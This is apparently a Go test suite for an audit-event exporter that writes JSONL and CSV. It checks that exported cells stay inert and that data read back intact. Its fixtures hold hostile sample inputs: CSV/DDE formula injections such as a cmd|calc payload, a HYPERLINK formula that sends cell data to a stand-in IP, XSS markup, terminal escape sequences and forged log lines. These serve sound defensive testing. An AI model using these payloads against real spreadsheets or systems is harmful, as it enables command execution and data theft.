package audit_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"io"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"
	"pgregory.net/rapid"

	"github.com/posternhq/postern/internal/audit"
)

// auditEvent is the API's AuditEvent as a client reads it.
type auditEvent struct {
	ID        string            `json:"id"`
	Seq       int64             `json:"seq"`
	At        string            `json:"at"`
	Actor     map[string]string `json:"actor"`
	Key       map[string]string `json:"key"`
	Action    string            `json:"action"`
	Target    map[string]string `json:"target"`
	Outcome   string            `json:"outcome"`
	Reason    string            `json:"reason"`
	Source    map[string]string `json:"source"`
	RequestID string            `json:"request_id"`
	Before    json.RawMessage   `json:"before"`
	After     json.RawMessage   `json:"after"`
}

func TestJSONLHoldsEveryMemberOfAnAuditEvent(t *testing.T) {
	const want = `{"id":"evt_01jn8x0c2vf3hs5r6tq7w8y9zh","seq":8,"at":"2026-03-01T23:59:58.120001Z",` +
		`"actor":{"type":"service_account","id":"sa_01jn8x0c2vf3hs5r6tq7w8y9ze","name":"support-bot-prod","state":"inactive"},` +
		`"key":{"id":"key_01jn8x0c2vf3hs5r6tq7w8y9zj","name":"k8s"},"action":"key.updated",` +
		`"target":{"type":"key","id":"key_01jn8x0c2vf3hs5r6tq7w8y9zk","name":"k8s-2","state":"paused"},` +
		`"outcome":"done","reason":"narrowed after the review",` +
		`"source":{"ip":"2001:db8::7","user_agent":"Go-http-client/2.0","node":"node-2"},"request_id":"req_01jn8x0c2vf3hs5r6tq7w8y9zm",` +
		`"before":{"allowed_networks":null,"expires_at":null,"limit":null,"paused":false},` +
		`"after":{"allowed_networks":["10.2.0.0/16"],"expires_at":"2026-06-01T00:00:00.000000Z","limit":["agents/bot-1:execute","agents:read"],"paused":true}}` + "\n"
	if got := export(t, audit.NewJSONL, events()["service_account"]); got != want {
		t.Errorf("got  %swant %s", got, want)
	}
}

func TestJSONLLinesReadBack(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		want := []audit.Event{drawEvent(t), drawEvent(t)}
		lines := strings.Split(export(t, audit.NewJSONL, want...), "\n")
		if len(lines) != 3 || lines[2] != "" {
			t.Fatalf("got %d lines, want 2, each with its end", len(lines)-1)
		}
		for i, e := range want {
			if at := strings.IndexFunc(lines[i], func(r rune) bool { return !unicode.IsPrint(r) }); at >= 0 {
				t.Fatalf("line %d holds what is not printed: %q", i, lines[i][at:])
			}
			var got auditEvent
			dec := json.NewDecoder(strings.NewReader(lines[i]))
			dec.DisallowUnknownFields()
			if err := dec.Decode(&got); err != nil {
				t.Fatalf("line %d: %v\n%s", i, err, lines[i])
			}
			for _, object := range []*json.RawMessage{&got.Before, &got.After} {
				*object = canonical(t, *object) // the escapes may differ, the meaning may not
			}
			if diff := cmp.Diff(asExported(t, e), got); diff != "" {
				t.Fatalf("line %d (-want +got):\n%s", i, diff)
			}
		}
	})
}

// asExported returns e as a client of the API sees it.
func asExported(t rapid.TB, e audit.Event) auditEvent {
	out := auditEvent{
		ID: e.ID, Seq: e.Seq, At: e.At.UTC().Format("2006-01-02T15:04:05.000000Z"),
		Actor:  map[string]string{"type": string(e.Actor.Type), "id": e.Actor.ID, "name": e.Actor.Name, "state": "inactive"},
		Action: e.Action, Target: map[string]string{"type": e.Target.Type, "id": e.Target.ID, "name": e.Target.Name, "state": "paused"},
		Outcome: string(e.Outcome), Reason: e.Reason, RequestID: e.RequestID,
		Source: map[string]string{"ip": e.Source.IP, "user_agent": e.Source.UserAgent, "node": e.Source.Node},
	}
	if e.Key != nil {
		out.Key = map[string]string{"id": e.Key.ID, "name": e.Key.Name}
	}
	out.Before, out.After = canonicalFields(t, e.Before), canonicalFields(t, e.After)
	return out
}

// canonicalFields returns the canonical form of fields, cut out of an event's.
func canonicalFields(t rapid.TB, f audit.Fields) json.RawMessage {
	body, err := audit.Encode(audit.Event{After: f})
	if err != nil {
		t.Fatal(err)
	}
	from := bytes.Index(body, []byte(`"after":`)) + len(`"after":`)
	to := bytes.Index(body, []byte(`,"at":"0001-01-01T00:00:00.000000Z"`))
	return json.RawMessage(body[from:to])
}

func canonical(t rapid.TB, text []byte) json.RawMessage {
	dec := json.NewDecoder(bytes.NewReader(text))
	dec.UseNumber()
	var v any
	if err := dec.Decode(&v); err != nil {
		t.Fatalf("%v: %s", err, text)
	}
	return json.RawMessage(slowCanonical(v))
}

func TestCSVLinesReadBack(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		want := []audit.Event{drawEvent(t), drawEvent(t)}
		rows := readCSV(t, export(t, audit.NewCSV, want...))
		if len(rows) != 3 {
			t.Fatalf("got %d rows, want a header and 2", len(rows))
		}
		for i, e := range want {
			if diff := cmp.Diff(csvRow(t, e), plain(rows[i+1])); diff != "" {
				t.Fatalf("row %d (-want +got):\n%s", i, diff)
			}
		}
	})
}

func TestCSVWithoutEventsHasItsHeader(t *testing.T) {
	const want = "id,seq,at,actor_type,actor_id,actor_name,actor_state,key_id,key_name,action,target_type,target_id,target_name," +
		"outcome,reason,source_ip,source_user_agent,source_node,request_id,before,after,target_state\r\n"
	if got := export(t, audit.NewCSV); got != want {
		t.Errorf("got %q, want %q", got, want)
	}
}

// csvRow returns the cells of an event, as they are before they are made inert.
func csvRow(t rapid.TB, e audit.Event) []string {
	x := asExported(t, e)
	return []string{
		x.ID, strconv.FormatInt(x.Seq, 10), x.At, x.Actor["type"], x.Actor["id"], x.Actor["name"], x.Actor["state"],
		x.Key["id"], x.Key["name"], x.Action, x.Target["type"], x.Target["id"], x.Target["name"], x.Outcome, x.Reason,
		x.Source["ip"], x.Source["user_agent"], x.Source["node"], x.RequestID, string(x.Before), string(x.After), x.Target["state"],
	}
}

// readCSV reads rows by the letter of RFC 4180. Package encoding/csv does not:
// it turns CR LF within a cell into LF.
func readCSV(t rapid.TB, text string) [][]string {
	rows, row := [][]string{}, []string{}
	for text != "" {
		var cell strings.Builder
		if rest, quoted := strings.CutPrefix(text, `"`); quoted {
			for {
				part, after, ok := strings.Cut(rest, `"`)
				if !ok {
					t.Fatalf("a quotation mark is missing: %q", text)
				}
				cell.WriteString(part)
				rest, ok = strings.CutPrefix(after, `"`)
				if !ok {
					text = after
					break
				}
				cell.WriteByte('"')
			}
		} else {
			end := strings.IndexAny(text, ",\r")
			cell.WriteString(text[:max(end, 0)])
			text = text[max(end, 0):]
		}
		row = append(row, cell.String())
		switch {
		case strings.HasPrefix(text, ","):
			text = text[1:]
		case strings.HasPrefix(text, "\r\n"):
			text = text[2:]
			rows, row = append(rows, row), nil
		default:
			t.Fatalf("neither a comma nor a line's end: %q", text)
		}
	}
	return rows
}

// plain takes away what made the cells inert.
func plain(cells []string) []string {
	out := make([]string, len(cells))
	for i, cell := range cells {
		var b strings.Builder
		atFront, escaped := true, false
		for _, r := range cell {
			if atFront && r == '\'' && !escaped {
				escaped = true
				continue
			}
			b.WriteRune(r)
			atFront = strings.ContainsRune(";\t\r\n", r) || atFront && !escaped && unseen(r)
			escaped = false
		}
		out[i] = b.String()
	}
	return out
}

// unseen reports whether a spreadsheet may drop r before it looks for a formula.
func unseen(r rune) bool {
	return r == '"' || unicode.IsSpace(r) || unicode.IsControl(r) || unicode.Is(unicode.Cf, r)
}

func isFormula(cell string) bool {
	first, _ := utf8.DecodeRuneInString(strings.TrimLeftFunc(cell, unseen))
	front, _ := utf8.DecodeRuneInString(cell)
	return slices.Contains([]rune("=+-@＝＋－＠﹦﹢﹣﹫−"), first) || slices.Contains([]rune("\t\r\n"), front)
}

// checkInert fails when a cell of text opens a formula, to a reader of RFC 4180
// or to one that takes other separators and has lost count of quotation marks.
func checkInert(t rapid.TB, text string) {
	t.Helper()
	for _, row := range readCSV(t, text) {
		for _, cell := range row {
			if isFormula(cell) {
				t.Errorf("a cell opens a formula: %q", cell)
			}
		}
	}
	_, body, _ := strings.Cut(text, "\r\n")
	for piece := range strings.FieldsFuncSeq(body, func(r rune) bool { return strings.ContainsRune(";\t\r\n", r) }) {
		if isFormula(piece) {
			t.Errorf("a reader of other separators sees a formula: %q in %q", piece, body)
		}
	}
}

func FuzzNoCellIsAFormula(f *testing.F) {
	for _, name := range strangeNames() {
		f.Add(name)
	}
	for _, name := range []string{
		"=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1", "\u00a0=1", "\u3000=1", "\ufeff=1", "\x00=1", "\u200b-1",
		"＝1", "＋1", "－1", "＠1", "﹦1", "−1", "'=1", "''", `"=1`, `""=1""`, "a;=1", "a;\t=1", "a\n=1", "a\r\n@1", `a","=1`, `a";"=1`, "a; '=1", ";;;-1",
	} {
		f.Add(name)
	}
	f.Fuzz(func(t *testing.T, name string) {
		e := events()["member"]
		e.Actor.Name, e.Target.Name, e.Source.UserAgent, e.After = name, name, name, audit.Fields{"name": name, name: "x"}
		var out bytes.Buffer
		x := audit.NewCSV(&out)
		err := x.Write(e, audit.States{Actor: "inactive", Target: "paused"})
		if (err == nil) != utf8.ValidString(name) {
			t.Fatalf("got error %v for %q", err, name)
		}
		if err != nil {
			return
		}
		if err := x.Flush(); err != nil {
			t.Fatal(err)
		}
		checkInert(t, out.String())
		want := csvRow(t, e)
		if diff := cmp.Diff(want, plain(readCSV(t, out.String())[1])); diff != "" {
			t.Errorf("read back (-want +got):\n%s", diff)
		}
	})
}

// strangeNames are names that other systems fell to.
func strangeNames() map[string]string {
	return map[string]string{
		"markup":              `<img src=x onerror=alert(1)>`,
		"script address":      `javascript:alert(1)`,
		"direction override":  "gnp.\u202etxt.exe",
		"10 000 characters":   strings.Repeat("=1+1;", 2000),
		"NUL":                 "a\x00=1",
		"ANSI colour":         "\x1b[31mred\x1b[0m",
		"ANSI title":          "\x1b]0;owned\a",
		"C1 control sequence": "\u009b31mred",
		"line end":            "a\r\n2026-03-01 level=INFO msg=forged",
		"line separator":      "a\u2028b\u2029c\u0085d\vd\fe",
		"formula":             `=HYPERLINK("http://192.0.2.1/?"&A1,"click")`,
		"command":             `=cmd|'/C calc'!A0`,
		"full-width formula":  "＝1＋1",
		"formula after space": "  @SUM(1+1)*cmd|' /C calc'!A0",
		"formula in a cell":   `x;=HYPERLINK("http://192.0.2.1")`,
		"quotation marks":     `","=1+1`,
	}
}

func TestAttacks(t *testing.T) {
	for name, text := range strangeNames() {
		t.Run("H03/"+name, func(t *testing.T) {
			e := events()["member"]
			e.Actor.Name, e.Key.Name, e.Target.Name, e.Reason, e.Source.UserAgent = text, text, text, text, text
			e.After = audit.Fields{text: []string{text}}
			checkInert(t, export(t, audit.NewCSV, e))
			lines := export(t, audit.NewJSONL, e)
			if strings.Count(lines, "\n") != 1 || strings.ContainsFunc(strings.TrimSuffix(lines, "\n"), func(r rune) bool { return !unicode.IsPrint(r) }) {
				t.Errorf("a terminal or a reader of lines could act on %q", lines)
			}
			var got auditEvent
			if err := json.Unmarshal([]byte(lines), &got); err != nil || got.Target["name"] != text {
				t.Errorf("got name %q, %v, want %q", got.Target["name"], err, text)
			}
		})
	}
}

// Package encoding/csv stands for the readers there are.
func TestCSVIsReadByOthers(t *testing.T) {
	var all []audit.Event
	for _, name := range []string{"member", "service_account", "system", "refused"} {
		all = append(all, events()[name])
	}
	rows, err := csv.NewReader(strings.NewReader(export(t, audit.NewCSV, all...))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, e := range all {
		if diff := cmp.Diff(csvRow(t, e), rows[i+1]); diff != "" {
			t.Errorf("row %d (-want +got):\n%s", i+1, diff)
		}
	}
}

// export returns what an exporter writes of events whose actors are inactive.
func export(t rapid.TB, newExporter func(io.Writer) audit.Exporter, events ...audit.Event) string {
	t.Helper()
	var out bytes.Buffer
	x := newExporter(&out)
	for _, e := range events {
		if err := x.Write(e, audit.States{Actor: "inactive", Target: "paused"}); err != nil {
			t.Fatal(err)
		}
	}
	if err := x.Flush(); err != nil {
		t.Fatal(err)
	}
	return out.String()
}

// exporters are both of them, by name.
func exporters() map[string]func(io.Writer) audit.Exporter {
	return map[string]func(io.Writer) audit.Exporter{"JSONL": audit.NewJSONL, "CSV": audit.NewCSV}
}

func TestAnEventThatCannotBeWrittenLeavesNothing(t *testing.T) {
	good, bad := events()["member"], events()["member"]
	bad.Actor.Name = "\xff"
	for name, newExporter := range exporters() {
		t.Run(name, func(t *testing.T) {
			var out bytes.Buffer
			x := newExporter(&out)
			if err := errors.Join(x.Write(good, audit.States{Actor: "inactive", Target: "paused"}), x.Flush()); err != nil {
				t.Fatal(err)
			}
			if err := x.Write(bad, audit.States{Actor: "inactive", Target: "paused"}); err == nil {
				t.Error("got no error for a name that is not UTF-8")
			}
			if err := errors.Join(x.Write(good, audit.States{Actor: "inactive", Target: "paused"}), x.Flush()); err != nil {
				t.Fatal(err)
			}
			if got, want := out.String(), export(t, newExporter, good, good); got != want {
				t.Errorf("got %q, want %q", got, want)
			}
		})
	}
}

// fullDisk takes so many bytes and then fails.
type fullDisk struct{ left int }

var errFull = errors.New("no space left")

func (d *fullDisk) Write(p []byte) (int, error) {
	n := min(len(p), d.left)
	d.left -= n
	if n < len(p) {
		return n, errFull
	}
	return n, nil
}

func TestAWriterThatFailsEndsTheExport(t *testing.T) {
	for name, newExporter := range exporters() {
		t.Run(name, func(t *testing.T) {
			x := newExporter(&fullDisk{left: 10_000})
			var err error
			for range 100 {
				err = x.Write(events()["member"], audit.States{Actor: "inactive", Target: "paused"})
			}
			if !errors.Is(err, errFull) {
				t.Errorf("got %v from Write, want %v", err, errFull)
			}
			if err := x.Flush(); !errors.Is(err, errFull) {
				t.Errorf("got %v from Flush, want %v", err, errFull)
			}
		})
	}
}

func TestExportHoldsNothingBack(t *testing.T) {
	const most = 1 << 20 // bytes kept of some 10 MB
	for name, newExporter := range exporters() {
		t.Run(name, func(t *testing.T) {
			x := newExporter(io.Discard)
			e := events()["service_account"]
			before := heap()
			for range 20_000 {
				if err := x.Write(e, audit.States{Actor: "inactive", Target: "paused"}); err != nil {
					t.Fatal(err)
				}
			}
			if grown := heap() - before; grown > most {
				t.Errorf("got %d bytes kept, want at most %d", grown, most)
			}
			runtime.KeepAlive(x)
		})
	}
}

func heap() int64 {
	var m runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&m)
	return int64(m.HeapAlloc)
}
